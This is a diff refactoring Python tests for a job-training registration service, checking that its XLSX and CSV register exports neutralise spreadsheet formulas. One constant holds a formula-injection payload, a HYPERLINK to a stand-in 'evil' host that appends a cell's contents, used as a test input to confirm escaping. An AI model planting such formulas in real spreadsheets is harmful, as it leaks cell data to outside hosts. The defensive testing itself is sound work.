@@ -11,17 +11,15 @@ from typing import Any
 
 import openpyxl
 import sqlalchemy as sa
-from click.testing import CliRunner
 from flask import Flask
 
-from form_service.applications import outcomes
 from form_service.applications.outcomes import Outcome
-from form_service.cli import main
 from form_service.reports import register as exports
 from form_service.store import Store
 from form_service.store.tables import applications, audit_log
 from form_service.web import services
-from tests.support.applications import apply
+from tests.support.applications import apply, record, train
+from tests.support.apps import portal_command
 from tests.support.staff import Staff, text_of
 
 EVIL = '=HYPERLINK("http://evil/?"&A1,"点我")'
@@ -32,46 +30,22 @@ def _people(app: Flask) -> list[str]:
     """Three people: P1 trained and placed (two applications), P2 only applied, P3 a job seeker."""
     store: Store = services.store(app)
     cipher = services.cipher(app)
-    p1 = apply(
-        store,
-        cipher,
-        flow="training",
-        unit_id="yangpu",
-        course_id="c05-diangong-wuji",
-        person_id="310104197503122014",
-    )
-    apply(
-        store,
-        cipher,
-        flow="housekeeping",
-        unit_id="minhang",
-        person_id="34122119881105452X",
-        name="李四",
-        groups=("下岗失业人员",),
-    )
-    with store.write() as conn:
-        state = "已提交"
-        for to_state in ("已录取", "在训", "结业"):
-            outcomes.take_step(
-                conn,
-                application_id=p1,
-                track="skills",
-                expected=state,
-                to_state=to_state,
-                on=ON,
-                actor="t",
-            )
-            state = to_state
-        state = outcomes.record_outcome(conn, application_id=p1, track="skills", expected=state, actor="t",
-                                        outcome=Outcome("certificate", ON, occupation="电工", level="五级", cert_number="0012"))  # fmt: skip
-        outcomes.record_outcome(conn, application_id=p1, track="skills", expected=state, actor="t",
-                                outcome=Outcome("employment", ON, employer=EVIL, contract_months=12))  # fmt: skip
+    p1 = apply(store, cipher, flow="training", unit_id="yangpu", course_id="c05-diangong-wuji",
+               person_id="310104197503122014")  # fmt: skip
+    apply(store, cipher, flow="housekeeping", unit_id="minhang", person_id="34122119881105452X",
+          name="李四", groups=("下岗失业人员",))  # fmt: skip
+    state = train(store, application_id=p1, track="skills", start=ON, end=ON, actor="t")
+    certificate = Outcome("certificate", ON, occupation="电工", level="五级", cert_number="0012")
+    job = Outcome("employment", ON, employer=EVIL, contract_months=12)
+    for outcome in (certificate, job):
+        state = record(store, application_id=p1, track="skills", state=state, outcome=outcome,
+                       actor="t")  # fmt: skip
     apply(store, cipher, flow="jobseeker", unit_id="yangpu", person_id="310104197503122014")
     p3 = apply(store, cipher, flow="jobseeker", unit_id="luwan", person_id="412728197209183069", name="买买提·艾力",
                phone="15800001111", groups=("就业困难人员",))  # fmt: skip
-    with store.write() as conn:
-        outcomes.record_outcome(conn, application_id=p3, track="jobseeker", expected="已提交", actor="t",
-                                outcome=Outcome("realname", date(2011, 6, 30)))  # fmt: skip
+    record(store, application_id=p3, track="jobseeker", state="已提交", actor="t",
+           outcome=Outcome("realname", date(2011, 6, 30)))  # fmt: skip
+    with store.read() as conn:
         return list(
             conn.execute(sa.select(applications.c.reference).order_by(applications.c.id)).scalars()
         )
@@ -86,16 +60,6 @@ def _expected(references: list[str]) -> list[list[Any]]:
          "就业困难人员", "失业(已登记)", "黄浦区总工会", "求职登记", references[3],
          None, None, None, None, None, None, None, None, None, None, None, "2011-06-30"],
     ]  # fmt: skip
-
-
-def _env(app: Flask) -> dict[str, str]:
-    return {
-        "PORTAL_DATABASE_URL": app.config["PORTAL_DATABASE_URL"],
-        "PORTAL_ID_KEY": app.config["PORTAL_ID_KEY"],
-        "PORTAL_SECRET_KEY": app.config["SECRET_KEY"],
-        "PORTAL_DATA_DIR": app.config["PORTAL_DATA_DIR"],
-        "PORTAL_CONTENT_DIR": app.config["PORTAL_CONTENT_DIR"],
-    }
 
 
 def test_register_xlsx_reads_back_whole(app: Flask, admin: Staff, tmp_path: Path) -> None:
@@ -115,9 +79,7 @@ def test_register_xlsx_reads_back_whole(app: Flask, admin: Staff, tmp_path: Path
     assert [c.coordinate for row in ws.iter_rows() for c in row if c.data_type == "f"] == []
     assert [c.value for row in ws.iter_rows() for c in row if c.quotePrefix] == [EVIL]
     out = tmp_path / "register.xlsx"
-    result = CliRunner().invoke(
-        main, ["export", "--format", "xlsx", "--out", str(out)], env=_env(app)
-    )
+    result = portal_command(app, ["export", "--format", "xlsx", "--out", str(out)])
     assert result.exit_code == 0, result.output
     assert out.read_bytes() == web.data
 
@@ -135,8 +97,8 @@ def test_register_csv_is_the_same_from_web_and_command(
         '"\'=HYPERLINK(""http://evil/?""&A1,""点我"")",2011-07-01,12,,,,\r\n'
     )
     out = tmp_path / "yangpu.csv"
-    result = CliRunner().invoke(
-        main, ["export", "--format", "csv", "--unit", "yangpu", "--out", str(out)], env=_env(app)
+    result = portal_command(
+        app, ["export", "--format", "csv", "--unit", "yangpu", "--out", str(out)]
     )
     assert result.exit_code == 0, result.output
     assert out.read_bytes() == web.data
